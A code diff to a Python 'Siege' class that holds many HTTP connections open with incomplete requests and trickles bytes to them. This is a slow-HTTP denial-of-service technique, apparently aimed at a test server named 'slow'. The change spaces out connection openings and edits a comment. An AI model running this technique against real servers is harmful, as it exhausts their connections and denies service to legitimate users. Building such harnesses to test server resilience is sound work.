@@ -17,7 +17,8 @@ OPENINGS = {
     "bodies": b"POST / HTTP/1.1\r\nHost: slow\r\nContent-Length: 1000000\r\n\r\n",
     "readers": b"GET /pour HTTP/1.1\r\nHost: slow\r\n\r\n",
 }
-BYTE_EVERY = 1.0  # seconds
+BYTE_EVERY = 1.0   # seconds
+COME_EVERY = 0.005  # seconds: a thousand at once would be an attack of another kind
 
 
 class Siege:
@@ -31,6 +32,7 @@ class Siege:
         for kind, number in wanted:
             for _ in range(number):
                 self.come(kind)
+                time.sleep(COME_EVERY)
 
     def come(self, kind):
         made = socket.socket()
@@ -88,7 +90,7 @@ class Siege:
                     return
                 if descriptor in self.here:
                     self.hear(descriptor, events)
-            # Evenly over the second: a thousand bytes at once would be an attack of another kind.
+            # Evenly over the second, as they came.
             if self.turns and time.monotonic() >= due:
                 due = max(due + BYTE_EVERY / len(self.turns), time.monotonic() - 0.1)
                 self.trickle()
